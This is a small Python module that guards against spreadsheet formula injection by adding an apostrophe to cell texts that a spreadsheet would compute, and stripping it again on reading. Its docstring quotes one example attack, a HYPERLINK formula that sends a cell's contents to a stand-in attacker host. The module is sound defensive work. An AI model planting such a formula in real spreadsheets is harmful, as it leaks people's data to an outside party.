"""A text in a cell of a table that a spreadsheet opens: never a formula, and read back as the very same text. Pure.

A spreadsheet computes a cell that begins with =, +, - or @ (in their wide forms, too), also where blanks, tabs or line
ends stand before it: `=HYPERLINK("https://evil.example/?"&A1)` in somebody's reply leaves with the rest of the table.
So such a text gets an apostrophe in front, as a person would type it, and so does one that looks as if it had one.
"""

from __future__ import annotations

import re

ARMED = re.compile(r"'*[\s\x00-\x20\ufeff\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]|'*[\t\r\n\x00]")
MARK = "'"


def written(text: str) -> str:
    """The text as it stands in the cell."""
    return MARK + text if ARMED.match(text) else text


def read(cell: str) -> str:
    """The text that a cell means."""
    return cell[1:] if cell.startswith(MARK) and ARMED.match(cell) else cell
